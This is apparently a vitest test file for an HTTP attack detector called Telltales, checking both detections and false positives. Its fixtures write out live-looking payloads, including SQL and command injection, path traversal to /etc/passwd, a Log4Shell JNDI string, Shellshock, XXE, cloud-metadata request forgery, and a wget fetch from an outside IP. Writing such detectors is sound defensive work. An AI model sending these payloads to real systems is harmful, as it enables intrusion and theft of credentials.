import fc from "fast-check";
import { describe, expect, it } from "vitest";
import { Telltales } from "./telltales.ts";

const octets = (text: string): Uint8Array => new Uint8Array(Buffer.from(text, "latin1"));

function inTarget(target: string): readonly string[] {
  const telltales = new Telltales();
  telltales.target(target);
  return telltales.names ?? [];
}

function inBody(body: string, target = "/"): Telltales {
  const telltales = new Telltales();
  telltales.target(target);
  telltales.body(true, octets(body), 0, body.length);
  telltales.bodyEnd(true);
  return telltales;
}

describe("telltales", () => {
  it.each([
    ["/item?id=1%27%20OR%20%271%27=%271", "sql injection"],
    ["/item?id=1+union/**/all/**/select+1,2,3", "sql injection"],
    ["/item?id=1)+AND+SLEEP(5)--+-", "sql injection"],
    ["/login?user=admin'--+", "sql injection"],
    ["/a?x=1;waitfor+delay+'0:0:5'--", "sql injection"],
    ["/ping?host=127.0.0.1;cat+/etc/passwd", "command injection"],
    ["/ping?host=`id`", "command injection"],
    ["/cgi-bin/x?cmd=whoami", "command injection"],
    ["/a?f=%252e%252e%252f%252e%252e%252fetc/passwd", "path traversal"],
    ["/scripts/..%c0%af../..%c0%af../winnt/system32/cmd.exe?/c+dir", "path traversal"],
    ["/x?page=php://filter/convert.base64-encode/resource=index", "file inclusion"],
    ["/x?q=%3Cscript%3Ealert(1)%3C/script%3E", "cross-site scripting"],
    ["/x?a=${jndi:ldap://192.0.2.1/a}", "jndi lookup"],
    ["/x?a=$%7B$%7Blower:j%7Dndi:$%7B::-l%7Ddap://192.0.2.1/a%7D", "jndi lookup"],
    ["/x?name=%25{(#_memberAccess['allowStaticMethodAccess']=true)}", "expression injection"],
    ["/index.php?c=system('id')", "code injection"],
    ["/search?user=*)(uid=*))(|(uid=*", "ldap injection"],
    ["/fetch?url=http://169.254.169.254/latest/meta-data/", "request forgery"],
    ["/autodiscover/autodiscover.json?@a.example/mapi/nspi/?&Email=x", "request forgery"],
    ["/vpn/../vpns/cfg/smb.conf", "path traversal"],
    ["/scripts/root.exe?/c+dir", "command injection"],
  ])("are found in %s", (target, name) => {
    expect(inTarget(target)).toContain(name);
  });

  it.each([
    "/api/v1/jobs?$filter=name eq 'daily' and state eq 'done'",
    "/search?q=rock+%26+roll+union+members+select+committee",
    "/docs/../index.html",
    "/app;jsessionid=0A1B?x=1|2&id=5",
    "/fetch?url=https://www.example.com/a.png",
    "/owa/?ae=Item&t=IPM.Note&id=RgAAAAD%2f;",
    "/search?q=it's+cat+and+dog",
    "/wsman?x=(a or b)",
    "/q?text=who+am+i;+where",
    "/directory?filter=(&(objectClass=*)(cn=backup))",
    "/autodiscover/autodiscover.json?Email=user@a.example&Protocol=ActiveSync",
    "/login?redirect_uri=http://localhost:8080/done",
  ])("are not found in %s", (target) => {
    expect(inTarget(target)).toEqual([]);
  });

  it("are found in headers and bodies, and shown without the neighbours", () => {
    const header = new Telltales();
    header.header("user-agent", "() { :; }; /bin/bash -c 'id'");
    expect(header.names).toEqual(["shellshock", "command injection"]);
    const body = inBody("password=secret&user=admin'+or+1=1--+&go=1");
    expect(body.names).toEqual(["sql injection"]);
    expect(body.text).toBe("user=admin' or 1=1-- ");
    const cookie = new Telltales();
    cookie.header("Cookie", "id=x'+UNION+SELECT+NULL--");
    expect(cookie.names).toEqual(["sql injection"]);
    const action = new Telltales();
    action.header("SOAPAction", "http://device.example/`cd /tmp && wget http://192.0.2.1/a`");
    expect(action.names).toEqual(["command injection"]);
    expect(inBody('{"user":{"$ne":null},"pass":{"$ne":null}}').names).toEqual(["sql injection"]);
    expect(inBody('{"selector":{"size":{"$gt":5}}}').names).toBeNull();
    expect(inBody("mail[#post_render][]=exec&mail[#markup]=id").names).toEqual(["code injection"]);
    expect(inBody("script=println+%22id%22.execute().text").names).toEqual(["code injection"]);
    expect(inBody('{"method":"getImageByPath","data":["C:/windows/win.ini"]}').names).toContain("image by path");
    expect(
      inBody('<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>').names,
    ).toContain("external entity");
  });

  it.each([
    "a=1&url=http%3A%2F%2F169.254.169.254%2Flatest%2Fmeta-data%2F",
    'Content-Disposition: form-data; name="url"\r\n\r\nhttp://169.254.169.254/latest/user-data',
    '{"imageUrl": "http://169.254.169.254/latest/meta-data/iam/", "size": 3}',
    '{"a":{"b":"gopher://127.0.0.1:6379/_x"}}',
  ])("find a forged request in the body %s", (body) => {
    expect(inBody(body).names).toEqual(["request forgery"]);
  });

  it.each([
    '{"message":"GET http://169.254.169.254/latest/meta-data/ took 3 ms","level":"info"}',
    '{"index":{}}\n{"url":{"full":"http://169.254.169.254/latest/meta-data/"}}',
    '{"resourceSpans":[{"attributes":[{"key":"http.url","value":{"stringValue":"http://169.254.169.254/"}}]}]}',
    '{"spans":[{"name":"GET","url":"http://169.254.169.254/latest/api/token"}]}',
  ])("find none in what agents and logs report: %s", (body) => {
    expect(inBody(body).names).toBeNull();
  });

  it("take operators for an attack in the place of a password, or where somebody logs on", () => {
    expect(inBody('{"name":"a","password":{"$regex":"^a"}}').names).toEqual(["sql injection"]);
    expect(inBody('{"username":{"$gt":""}}', "/api/login").names).toEqual(["sql injection"]);
    expect(inBody('{"username":{"$regex":"^a"},"password":"x"}', "/api/users").names).toEqual(["sql injection"]);
    expect(inBody('{"email":{"$regex":"example"}}', "/authors").names).toBeNull();
    expect(inBody('{"user":{"$exists":true}}', "/jobs/_find").names).toBeNull();
    expect(inBody('{"email":{"$regex":"example"}}', "/users/search").names).toBeNull();
  });

  it("look at an answer only if the request was telling", () => {
    const answer = "uid=33(www-data) gid=33(www-data)";
    const telltales = new Telltales();
    telltales.target("/ping?host=;id");
    telltales.body(false, octets(answer), 0, answer.length);
    telltales.bodyEnd(false);
    expect(telltales.names).toEqual(["command injection", "command output"]);
    const plain = new Telltales();
    plain.target("/ping?host=127.0.0.1");
    expect(plain.wants(false)).toBe(false);
  });

  it("take any octets in time that grows with their number", () => {
    fc.assert(
      fc.property(fc.uint8Array({ maxLength: 300 }), fc.uint8Array({ maxLength: 300 }), (head, body) => {
        const target = Buffer.from(head).toString("latin1");
        const telltales = new Telltales();
        telltales.target(target);
        telltales.header("x", target);
        telltales.body(true, body, 0, body.length);
        telltales.bodyEnd(true);
        expect(telltales.text === null).toBe(telltales.names === null);
      }),
    );
    const start = performance.now();
    for (const piece of ["' or ", "(((((", "../", "${${${", "select from ", "{{", "<a ", "%25", "; echo a", "a.b."]) {
      inTarget(piece.repeat(800));
      inBody(piece.repeat(800));
    }
    expect(performance.now() - start).toBeLessThan(10_000);
  });
});
